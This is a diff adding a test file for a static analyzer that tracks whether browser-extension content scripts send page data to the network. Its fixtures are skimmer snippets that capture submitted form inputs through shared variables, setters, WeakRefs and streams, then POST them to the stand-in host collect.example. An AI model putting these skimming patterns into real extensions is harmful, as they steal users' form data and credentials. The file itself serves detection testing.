@@ -1,0 +1,108 @@
+import { expect, test } from 'vitest';
+import { factsOf } from '../testing/examples.ts';
+import { flowsOf } from './flowsOf.ts';
+
+const HOST = 'https://collect.example';
+const ON = 'document.addEventListener("submit", (e) => {';
+const VALUE = 'e.target.querySelector("input").value';
+const send = (what: string): string => `setInterval(() => fetch('${HOST}', { method: 'POST', body: ${what} }), 1000);`;
+
+/** Whether data of pages is sent by content scripts that are loaded together, one behind the other. */
+async function isSent(scripts: readonly string[], background: readonly string[] = []): Promise<boolean> {
+  const named = (texts: readonly string[], as: string): string[] => texts.map((_, at) => `${as}${at}.js`);
+  const files: Record<string, string> = {
+    'manifest.json': JSON.stringify({
+      manifest_version: 2,
+      name: 'Example',
+      version: '1',
+      permissions: ['<all_urls>'],
+      background: { scripts: named(background, 'background') },
+      content_scripts: [{ matches: ['<all_urls>'], js: named(scripts, 'content') }],
+    }),
+  };
+  for (const [at, text] of scripts.entries()) files[`content${at}.js`] = text;
+  for (const [at, text] of background.entries()) files[`background${at}.js`] = text;
+  const { flows } = (await factsOf({ kind: 'extension', files })).whole(flowsOf);
+  return flows.some(({ sink }) => sink.kind === 'network');
+}
+
+test.each<[string, ...string[]]>([
+  [
+    'a variable that each script carries on',
+    `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`,
+    `var App = App || {}; ${send('JSON.stringify(App.data)')}`,
+  ],
+  [
+    'such a variable of the window',
+    `var App = window.App || {}; App.list = []; ${ON} App.list.push(${VALUE}); });`,
+    `var App = window.App || {}; ${send('App.list.join()')}`,
+  ],
+  [
+    'a namespace that functions are given',
+    `(function (ns) { ns.list = []; ${ON} ns.list.push(${VALUE}); }); })(window.App = window.App || {});`,
+    `(function (ns) { ${send('ns.list.join()')} })(window.App = window.App || {});`,
+  ],
+  [
+    'a namespace as TypeScript writes it',
+    'var App; (function (App) { App.list = []; })(App || (App = {}));',
+    `var App; (function (App) { ${ON} App.list.push(${VALUE}); }); })(App || (App = {}));`,
+    send('App.list.join()'),
+  ],
+  [
+    'a module that is carried on',
+    `var App = (function (m) { m.list = []; ${ON} m.list.push(${VALUE}); }); return m; })(App || {});`,
+    `var App = (function (m) { ${send('m.list.join()')} return m; })(App || {});`,
+  ],
+  [
+    'a list that a function is handed',
+    'const App = { list: [] }; function keep(list, one) { list.push(one); }',
+    `${ON} keep(App.list, ${VALUE}); });`,
+    send('App.list.join()'),
+  ],
+  [
+    'a list that is made when the first comes',
+    `const byHost = {}; ${ON} const put = (list, one) => list.push(one); put(byHost[location.host] || (byHost[location.host] = []), ${VALUE}); });`,
+    send('JSON.stringify(byHost)'),
+  ],
+  [
+    'a setter that an object was given',
+    `const state = {}; Object.defineProperty(state, 'last', { set(body) { fetch('${HOST}', { method: 'POST', body }); } });`,
+    `${ON} state.last = ${VALUE}; });`,
+  ],
+  [
+    'a setter of a prototype',
+    `class State {} Object.defineProperties(State.prototype, { last: { set(body) { fetch('${HOST}', { method: 'POST', body }); } } }); const state = new State(); ${ON} state.last = ${VALUE}; });`,
+  ],
+  ['a weak reference', `let last; ${ON} last = new WeakRef({ text: ${VALUE} }); }); ${send('last.deref().text')}`],
+  [
+    'a stream’s two ends',
+    `const { readable, writable } = new TransformStream(); const to = writable.getWriter(); fetch('${HOST}', { method: 'POST', body: readable }); ${ON} to.write(${VALUE}); });`,
+  ],
+])('data is followed through %s', async (_, ...scripts) => {
+  expect(await isSent(scripts)).toBe(true);
+});
+
+test('but not through a variable of that name in another place', async () => {
+  const keeps = `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`;
+  expect(await isSent([keeps], [`var App = App || {}; ${send('JSON.stringify(App.data)')}`])).toBe(false);
+});
+
+test.each<[string, ...string[]]>([
+  [
+    'another property',
+    `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`,
+    `var App = App || {}; ${send('JSON.stringify(App.settings)')}`,
+  ],
+  [
+    'a function’s own variable of that name',
+    `var App = App || {}; App.data = {}; ${ON} App.data[e.target.name] = ${VALUE}; });`,
+    `function start() { var App = App || {}; ${send('JSON.stringify(App.data)')} }`,
+  ],
+  [
+    'another setter',
+    `const state = {}; Object.defineProperty(state, 'count', { set(body) { fetch('${HOST}', { method: 'POST', body }); } });`,
+    `${ON} state.last = ${VALUE}; state.count = 1; });`,
+  ],
+])('nor through %s', async (_, ...scripts) => {
+  expect(await isSent(scripts)).toBe(false);
+});
